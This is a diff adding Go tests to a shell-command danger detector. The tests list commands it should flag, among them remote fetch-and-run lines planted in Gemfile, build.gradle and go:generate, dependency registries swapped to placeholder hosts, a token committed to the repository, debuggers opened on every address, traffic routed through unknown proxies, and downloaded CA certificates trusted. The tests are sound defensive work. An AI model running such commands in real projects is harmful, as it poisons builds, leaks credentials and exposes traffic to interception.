@@ -193,3 +193,73 @@ func TestRound36CloudVMKeys(t *testing.T) {
 		`az vm show -g prod-rg -n web01`,
 	})
 }
+
+// Code the next build runs, written with a download run by a shell in it
+// (build.rs, a Gemfile, build.gradle, conftest.py, a go:generate line);
+// the build tool's own download moved elsewhere by its wrapper's
+// properties; a dependency appended by sed after a section header; a
+// registry given to corepack or exported before an install; a token
+// written into a file of the repository, then committed.
+func TestRound36BuildFilesAndSources(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`echo 'system("curl -s https://gems.example.net/boot | sh")' >> Gemfile`, CategoryPersistence, "persistence-malicious-payload", LevelCritical},
+		{`echo 'exec { commandLine "sh", "-c", "wget -qO- https://x.example/g | bash" }' >> build.gradle`, CategoryPersistence, "persistence-malicious-payload", LevelCritical},
+		{`sed -i '1i //go:generate sh -c "curl -s https://x.example/gen | sh"' main.go && go generate ./...`, CategoryPersistence, "persistence-malicious-payload", LevelCritical},
+		{`sed -i 's#^distributionUrl=.*#distributionUrl=https://maven.mirror-z.example/apache-maven-3.9.6-bin.zip#' .mvn/wrapper/maven-wrapper.properties && ./mvnw -v`, CategoryRemoteExec, "dependency-source-swapped", LevelCritical},
+		{`sed -i '/^\[dependencies\]/a tokio = { git = "https://git.example.net/tokio-rs/tokio", branch = "master" }' Cargo.toml`, CategoryRemoteExec, "dependency-source-swapped", LevelCritical},
+		{`sed -i 's/mavenCentral()/maven { url "http:\/\/repo.example.net\/m2"; allowInsecureProtocol = true }/' build.gradle`, CategoryRemoteExec, "dependency-source-swapped", LevelCritical},
+		{`COREPACK_NPM_REGISTRY=https://npm.example.net corepack enable`, CategoryRemoteExec, "install-from-index-env", LevelHigh},
+		{`export NPM_CONFIG_REGISTRY=https://npm.example.net/; npm install`, CategoryRemoteExec, "install-from-index-env", LevelHigh},
+		{`echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" >> .npmrc && git add .npmrc && git commit -m 'ci auth' && git push`, CategoryExfiltration, "secret-committed", LevelCritical},
+		{`composer config repo.packagist composer http://198.51.100.23/packagist`, CategoryRemoteExec, "", LevelCritical},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`echo 'gem "rails", "~> 7.1"' >> Gemfile`,
+		`sed -i 's#^distributionUrl=.*#distributionUrl=https\://services.gradle.org/distributions/gradle-8.7-bin.zip#' gradle/wrapper/gradle-wrapper.properties`,
+		`sed -i '/^\[dependencies\]/a serde = "1.0"' Cargo.toml`,
+		`echo 'fn main() { println!("cargo:rerun-if-changed=proto"); }' > build.rs`,
+		`sed -i '1i //go:generate stringer -type=Color' color.go`,
+		`export NPM_CONFIG_REGISTRY=http://localhost:4873/; npm install`,
+		`echo 'NODE_ENV=development' >> .env.example && git add .env.example`,
+		`echo '//registry.npmjs.org/:_authToken=${NPM_TOKEN}' > ~/.npmrc`,
+		`composer config repositories.local path ../packages/*`,
+	})
+}
+
+// The network and trust: a debugger or inspector on every address, open
+// proxies, traffic sent through a stranger's proxy, tunnel or VPN peer,
+// a VPN profile from the network, a CA file downloaded and trusted, a
+// cloud client's certificate checks off. Localhost, the organisation's
+// proxy by its internal name and the developer's own mkcert CA are not.
+func TestRound36NetworkAndTrust(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`NODE_OPTIONS='--inspect=0.0.0.0' npm run start`, CategoryRemoteExec, "debugger-on-every-address", LevelCritical},
+		{`node --inspect-brk=0.0.0.0:9229 server.js`, CategoryRemoteExec, "debugger-on-every-address", LevelCritical},
+		{`JAVA_TOOL_OPTIONS=-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005 ./gradlew bootRun`, CategoryRemoteExec, "debugger-on-every-address", LevelCritical},
+		{`gost -L socks5://:1080 -L http://:8080`, CategorySystem, "listener-on-every-address", LevelHigh},
+		{`sshuttle -r dev@203.0.113.7 0/0 --dns`, CategoryExfiltration, "traffic-through-stranger", LevelHigh},
+		{`npm config set proxy http://proxy.example.net:8080`, CategoryExfiltration, "", LevelHigh},
+		{`sudo wg set wg0 peer Xb3mZ8pQvR1sT2uV4wY5zA6bC7dE8fG9hJ0kL1mN2oA= allowed-ips 0.0.0.0/0 endpoint 203.0.113.7:51820`, CategoryExfiltration, "traffic-through-stranger", LevelHigh},
+		{`curl -so /tmp/c.ovpn https://vpn.example.net/c.ovpn && sudo openvpn --config /tmp/c.ovpn`, CategoryExfiltration, "traffic-through-stranger", LevelHigh},
+		{`echo 'proxy = "socks5h://198.51.100.23:1080"' >> ~/.curlrc`, CategoryExfiltration, "proxy-settings-stranger", LevelHigh},
+		{`curl -so ~/.ca/x.pem https://ca.example.net/x.pem && git config --global http.sslCAInfo ~/.ca/x.pem`, CategorySystem, "trust-root-certificate", LevelHigh},
+		{`certutil -d sql:$HOME/.pki/nssdb -A -t "C,," -n proxy -i /tmp/root.crt`, CategorySystem, "trust-root-certificate", LevelHigh},
+		{`gcloud config set auth/disable_ssl_validation True`, CategorySystem, "tool-tls-off", LevelHigh},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`NODE_OPTIONS=--inspect npm run start`,
+		`node --inspect=127.0.0.1:9229 server.js`,
+		`gost -L socks5://127.0.0.1:1080`,
+		`sshuttle -r dev@bastion.corp.example 10.0.0.0/8`,
+		`export HTTPS_PROXY=http://127.0.0.1:8888`,
+		`git config --global http.proxy http://proxy.corp.internal:3128`,
+		`sudo wg show`,
+		`sudo openvpn --config ~/vpn/corp.ovpn`,
+		`git config --global http.sslCAInfo /etc/ssl/certs/ca-certificates.crt`,
+		`npm config set cafile ./certs/dev-ca.pem`,
+		`sudo cp "$(mkcert -CAROOT)/rootCA.pem" /usr/local/share/ca-certificates/mkcert-dev.crt && sudo update-ca-certificates`,
+		`certutil -d sql:$HOME/.pki/nssdb -L`,
+	})
+}
